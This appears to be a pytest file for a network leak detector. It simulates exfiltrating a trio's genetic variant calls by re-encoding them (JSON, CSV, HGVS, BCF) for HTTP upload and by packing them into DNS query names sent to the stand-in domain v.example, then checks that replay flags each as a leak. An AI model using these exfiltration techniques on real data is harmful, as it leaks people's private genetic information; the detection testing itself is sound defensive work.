"""A run's variant records re-written before upload, to an allowed destination, replay as a leak.

The CEU trio's VCF in the run folder; its records sent as JSON (with the trio's genotypes), CSV,
HGVS names, or its sites converted to BCF under a header of their own (`bcftools view -G -Ob`,
reheadered: BGZF around binary records) each replayed clean before: no bytes of the VCF are in them.
"""

from __future__ import annotations

import json

import pysam

from sandbox.captures.writer import PcapWriter, udp
from sandbox.replay import replay
from sandbox.simulate import wire
from tests.hostile.uploads import ALLOWED, http_upload


def test_variant_records_written_otherwise_replay_as_a_leak(shared_data, tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    (run / "trio.vcf").write_bytes((shared_data / "sequences/human/CEUTrio-snps.vcf").read_bytes())
    records = []
    with pysam.VariantFile(str(run / "trio.vcf")) as fh:
        sites = pysam.VariantHeader()        # a header of its own: no byte of the VCF's, no sample names
        for contig in fh.header.contigs:
            sites.contigs.add(contig)
        with pysam.VariantFile(str(tmp_path / "trio.bcf"), "wb", header=sites) as bcf:
            for r in fh:
                records.append({"chrom": r.chrom, "pos": r.pos, "ref": r.ref, "alt": list(r.alts),
                                "genotypes": [list(r.samples[s]["GT"]) for s in fh.header.samples]})
                bcf.write(bcf.new_record(contig=r.chrom, start=r.start, alleles=r.alleles))
    bodies = {
        "json": json.dumps({"calls": records}).encode(),
        "csv": "\n".join(f"{r['chrom']},{r['pos']},{r['ref']},{r['alt'][0]}" for r in records).encode(),
        "hgvs": "\n".join(f"chr{r['chrom']}:g.{r['pos']}{r['ref']}>{r['alt'][0]}" for r in records).encode(),
        "bcf": (tmp_path / "trio.bcf").read_bytes(),
    }
    for name, body in bodies.items():
        http_upload(tmp_path / f"{name}.pcap", body, b"/results")
        report = replay([tmp_path / f"{name}.pcap"], [run], allow=[ALLOWED], cache_dir=tmp_path / "cache", jobs=1).report
        assert report["verdict"] == "leak", name
        (leak,) = [f for f in report["findings"] if "variants" in f["evidence_kinds"]]
        assert leak["kind"] == "variants" and leak["severity"] == "critical", name
        assert leak["detail"]["variants"]["matched"] == len(records), name
        assert not any("preview" in e for e in leak["evidence"] if e["kind"] == "variants"), name


def test_variants_in_dns_query_names_are_a_leak(shared_data, tmp_path):
    """One variant a query, `8216712-A-G.v.example`: the names' data labels were joined into one run
    for the decoders, numbers glued to letters, and the upload replayed clean."""
    run = tmp_path / "run"
    run.mkdir()
    (run / "trio.vcf").write_bytes((shared_data / "sequences/human/CEUTrio-snps.vcf").read_bytes())
    with pysam.VariantFile(str(run / "trio.vcf")) as fh:
        names = [f"{r.pos}-{r.ref}-{r.alts[0]}.v.example" for r in fh][:40]
    with PcapWriter(tmp_path / "dns.pcap") as w:
        for i, name in enumerate(names):
            udp(w, ("10.0.0.2", 50000 + i), ("10.0.0.53", 53), wire.dns_query(i, name), t=1.0 + i * 0.2)
    report = replay([tmp_path / "dns.pcap"], [run], cache_dir=tmp_path / "cache", jobs=1).report
    (leak,) = [f for f in report["findings"] if "variants" in f["evidence_kinds"]]
    assert report["verdict"] == "leak" and leak["destination"] == "v.example" and leak["severity"] == "high"
    assert leak["detail"]["variants"]["matched"] == 40
